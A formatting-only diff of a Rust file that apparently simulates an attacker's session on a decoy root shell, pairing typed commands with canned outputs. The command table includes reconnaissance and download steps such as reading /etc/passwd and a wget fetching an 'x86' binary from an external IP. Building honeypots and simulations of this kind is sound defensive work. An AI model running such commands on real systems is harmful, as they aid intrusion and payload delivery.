@@ -16,28 +16,78 @@ const PROMPT: &[u8] = b"root@decoy:~# ";
 const COMMANDS: [(&str, Option<&str>); 24] = [
     ("id", Some("uid=0(root) gid=0(root) groups=0(root)")),
     ("whoami", Some("root")),
-    ("uname -a", Some("Linux decoy 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux")),
+    (
+        "uname -a",
+        Some("Linux decoy 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux"),
+    ),
     ("pwd", Some("/root")),
-    ("w", Some(" 10:14:02 up 41 days,  3:07,  1 user,  load average: 0.08, 0.03, 0.01\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\nroot     pts/0    203.0.113.50     10:13    1.00s  0.02s  0.00s w")),
-    ("ls -la --color", Some("total 28\n\x1b[01;34mdrwx------\x1b[0m  4 root root 4096 Apr 30 09:12 \x1b[01;34m.\x1b[0m\n-rw-------  1 root root  512 Apr 30 09:12 .bash_history\n-rw-r--r--  1 root root 3106 Oct 15  2021 .bashrc\n\x1b[01;34mdrwx------\x1b[0m  2 root root 4096 Mar  2 11:52 \x1b[01;34m.ssh\x1b[0m")),
-    ("cat /etc/passwd", Some("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash")),
+    (
+        "w",
+        Some(
+            " 10:14:02 up 41 days,  3:07,  1 user,  load average: 0.08, 0.03, 0.01\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\nroot     pts/0    203.0.113.50     10:13    1.00s  0.02s  0.00s w",
+        ),
+    ),
+    (
+        "ls -la --color",
+        Some(
+            "total 28\n\x1b[01;34mdrwx------\x1b[0m  4 root root 4096 Apr 30 09:12 \x1b[01;34m.\x1b[0m\n-rw-------  1 root root  512 Apr 30 09:12 .bash_history\n-rw-r--r--  1 root root 3106 Oct 15  2021 .bashrc\n\x1b[01;34mdrwx------\x1b[0m  2 root root 4096 Mar  2 11:52 \x1b[01;34m.ssh\x1b[0m",
+        ),
+    ),
+    (
+        "cat /etc/passwd",
+        Some(
+            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash",
+        ),
+    ),
     ("nproc", Some("2")),
-    ("free -m", Some("               total        used        free      shared  buff/cache   available\nMem:            1987         412         903           1         671        1402\nSwap:              0           0           0")),
-    ("df -h", Some("Filesystem      Size  Used Avail Use% Mounted on\n/dev/xvda1       39G  9.9G   29G  26% /\ntmpfs           994M     0  994M   0% /dev/shm")),
-    ("netstat -tlnp", Some("Active Internet connections (only servers)\nProto Recv-Q Send-Q Local Address   Foreign Address State  PID/Program name\ntcp        0      0 0.0.0.0:22      0.0.0.0:*       LISTEN 611/sshd")),
+    (
+        "free -m",
+        Some(
+            "               total        used        free      shared  buff/cache   available\nMem:            1987         412         903           1         671        1402\nSwap:              0           0           0",
+        ),
+    ),
+    (
+        "df -h",
+        Some(
+            "Filesystem      Size  Used Avail Use% Mounted on\n/dev/xvda1       39G  9.9G   29G  26% /\ntmpfs           994M     0  994M   0% /dev/shm",
+        ),
+    ),
+    (
+        "netstat -tlnp",
+        Some(
+            "Active Internet connections (only servers)\nProto Recv-Q Send-Q Local Address   Foreign Address State  PID/Program name\ntcp        0      0 0.0.0.0:22      0.0.0.0:*       LISTEN 611/sshd",
+        ),
+    ),
     ("cd /tmp", Some("")),
     ("ps aux | grep -v grep | grep -i miner", Some("")),
-    ("cat /proc/cpuinfo | grep name | head -n 1", Some("model name\t: Intel(R) Xeon(R) CPU E5-2676")),
+    (
+        "cat /proc/cpuinfo | grep name | head -n 1",
+        Some("model name\t: Intel(R) Xeon(R) CPU E5-2676"),
+    ),
     ("locale", Some("LANG=fr_FR.UTF-8\nLC_CTYPE=\"fr_FR.UTF-8\"")),
-    ("cat motd", Some("Bienvenue sur le serveur de d\u{e9}veloppement \u{2014} acc\u{e8}s r\u{e9}serv\u{e9}\n\u{250c}\u{2500}\u{2500}\u{2510} \u{2514}\u{2500}\u{2500}\u{2518}")),
-    ("wget http://198.51.100.23/x86", Some("Connecting to 198.51.100.23:80... failed: Connection refused.")),
+    (
+        "cat motd",
+        Some(
+            "Bienvenue sur le serveur de d\u{e9}veloppement \u{2014} acc\u{e8}s r\u{e9}serv\u{e9}\n\u{250c}\u{2500}\u{2500}\u{2510} \u{2514}\u{2500}\u{2500}\u{2518}",
+        ),
+    ),
+    (
+        "wget http://198.51.100.23/x86",
+        Some("Connecting to 198.51.100.23:80... failed: Connection refused."),
+    ),
     ("ifconfig", None),
     ("sudo su", None),
-    ("ls /nonexistent", Some("ls: cannot access '/nonexistent': No such file or directory")),
+    (
+        "ls /nonexistent",
+        Some("ls: cannot access '/nonexistent': No such file or directory"),
+    ),
     ("history", Some("    1  id\n    2  whoami\n    3  uname -a")),
     ("echo ok", Some("ok")),
     ("crontab -l", Some("no crontab for root")),
-    ("uptime", Some(" 10:14:02 up 41 days,  3:07,  1 user,  load average: 0.08, 0.03, 0.01")),
+    (
+        "uptime",
+        Some(" 10:14:02 up 41 days,  3:07,  1 user,  load average: 0.08, 0.03, 0.01"),
+    ),
 ];
 
 /// Splitmix64: small, deterministic, good enough for timing jitter.
@@ -159,7 +209,10 @@ pub fn interactive_session(commands: usize, seed: u64) -> Vec<Event> {
         rec.output(b"\r\n", rng.micros(200, 800));
         let text = match output {
             Some(text) => text,
-            None => format!("-bash: {}: command not found", command.split(' ').next().unwrap_or("")),
+            None => format!(
+                "-bash: {}: command not found",
+                command.split(' ').next().unwrap_or("")
+            ),
         };
         if !text.is_empty() {
             let mut body = crlf(&text);
